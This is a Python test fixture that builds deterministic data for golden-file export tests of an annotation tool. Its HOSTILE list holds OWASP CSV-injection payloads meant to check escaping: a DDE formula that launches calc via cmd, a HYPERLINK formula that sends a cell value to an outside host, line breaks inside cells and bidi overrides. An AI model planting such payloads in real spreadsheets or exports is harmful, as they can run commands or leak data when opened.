"""A deterministic task for the byte-for-byte export tests (tests/export/test_golden.py).

The campaign of ``campaign_data`` plus 60 generated pairs (seeded votes of five annotators,
factor answers, confidences, seconds, rationales, an adjudication, judge runs), with hostile
cells (the OWASP CSV-injection examples, CR, LF, CRLF inside cells, C1 controls, bidi
overrides) and every timestamp fixed, so the files written by each export are the same on
every run. ``tests/export/golden/`` holds the files the exports wrote before they were
rewritten columnar; ``write_golden`` regenerates them (only when a change is intended).
"""

from __future__ import annotations

import random

from annotator.store import Adjudication, JudgeRun, Judgment, Label, Pair, Store
from tests.export.campaign_data import fill_campaign

# OWASP "CSV Injection" page's examples, and line breaks inside cells
HOSTILE = [
    "=1+2", "+1+2", "-2+3", "@SUM(1+9)", "\t=1+2", "\r=1+2",
    "=cmd|' /C calc'!A0", "text\r=cmd|' /C calc'!A0", "text\n=cmd|' /C calc'!A0", "text\r\n=cmd|' /C calc'!A0",
    '=HYPERLINK("http://x.example/?"&A1,"Click")', "a\u0085b\u009bc", "bidi \u202eevil\u202c end", "\u2066iso\u2069",
    "plain", "", "tab\tinside", 'quote " inside', "semi;colon", "x\u2028y",
]

EXPORTS = [
    ("gold", fmt, extra) for fmt in ("jsonl", "csv", "parquet", "chosen-rejected", "alpaca-eval")
    for extra in ((), ("--aggregate", "dawid-skene"))
] + [
    ("gold", "jsonl", ("--names", "--min-votes", "2")),
    ("soft-labels", "jsonl", ()), ("soft-labels", "csv", ()), ("soft-labels", "parquet", ()),
    ("labels", "jsonl", ()), ("labels", "csv", ()), ("labels", "parquet", ()), ("labels", "csv", ("--texts",)),
    ("labels", "jsonl", ("--texts", "--names")),
    ("judgments", "jsonl", ()), ("judgments", "csv", ()), ("judgments", "parquet", ()),
    ("judgments", "jsonl", ("--messages", "--factor-runs")),
]


def export_file_name(kind: str, fmt: str, extra: tuple[str, ...]) -> str:
    suffix = {"chosen-rejected": "jsonl", "alpaca-eval": "json"}.get(fmt, fmt)
    tag = "".join(e.strip("-")[:3] for e in extra)
    return f"{kind}-{fmt}{'-' + tag if tag else ''}.{suffix}"


def fill_golden(store: Store) -> None:
    fill_campaign(store)
    rng = random.Random(7)
    pairs = []
    for i in range(60):
        h = HOSTILE[i % len(HOSTILE)]
        pairs.append(Pair(task="c", pair_id=f"g{i:02d}", prompt=f"{h} prompt {i}" if i % 3 else h,
                          response_a=HOSTILE[(i + 3) % len(HOSTILE)], response_b=f"b{i}\n{h}",
                          model_a=f"m{i % 3}", model_b="m9", domain=("math", "code", h)[i % 3],
                          source=h if i % 4 == 0 else "", content_hash=f"g{i}"))
    store.insert_pairs(pairs)
    ids = [store.get_pair_by_external_id("c", f"g{i:02d}").id for i in range(60)]
    people = ["bob", "alice", "eve", "dan", "fay"]
    labels = []
    for n, pid in enumerate(ids):
        for who in rng.sample(people, rng.randint(1, 5)):
            factors = {k: rng.choice(["A", "B", "equal", "na"]) for k in ("length", "coherence") if rng.random() < 0.6}
            labels.append(Label(
                pair=pid, annotator=who, choice=rng.choice(["A", "A", "B", "tie"]),
                shown_order=rng.choice(["AB", "BA"]), factors=factors,
                confidence=rng.choice([None, 1, 3, 5]), rationale=rng.choice(["", HOSTILE[n % len(HOSTILE)], "ok"]),
                seconds=rng.choice([None, 0.1, 2.5, 1 / 3, 1e-5, 123456.789])))
    store.add_labels(labels)
    store.add_labels([Label(pair=ids[5], annotator="bob", choice="B", shown_order="AB", rationale="changed\r\nmind")])
    store.add_adjudication(Adjudication(pair=ids[1], adjudicator="zed", choice="A", reason=_reason(),
                                        note="=note\r=cmd", created_at="2026-01-02T03:04:05Z"))
    run = store.get_or_create_run(JudgeRun(task="c", name="judge2", model="m\u202ex"))
    judgments = []
    for n, pid in enumerate(ids):
        for order in ("AB", "BA"):
            verdict = rng.choice(["A", "B", "tie", None])
            judgments.append(Judgment(
                run=run.id, pair=pid, order=order, verdict=verdict, p_a=None if verdict is None else rng.random(),
                unscored_reason="unparseable" if verdict is None else "", raw_output=HOSTILE[n % len(HOSTILE)],
                explanation=HOSTILE[(n + 1) % len(HOSTILE)], prompt_tokens=rng.randint(1, 900),
                completion_tokens=rng.randint(1, 90), cost=rng.random() / 1000, latency_s=rng.random() * 3,
                messages=[{"role": "user", "content": HOSTILE[n % len(HOSTILE)]}]))
    store.save_judgments(judgments)
    with store.atomic():  # every timestamp fixed: the files must be the same on every run
        store.db.execute("UPDATE labels SET created_at = printf('2026-01-01T00:%02d:%02dZ', id / 60 % 60, id % 60)")
        store.db.execute("UPDATE judgments SET created_at = printf('2026-01-01T01:%02d:%02dZ', id / 60 % 60, id % 60)")
        store.db.execute("UPDATE adjudications SET created_at = '2026-01-02T03:04:05Z'")


def _reason() -> str:
    from annotator.store.models import ADJUDICATION_REASONS

    return next(iter(ADJUDICATION_REASONS))
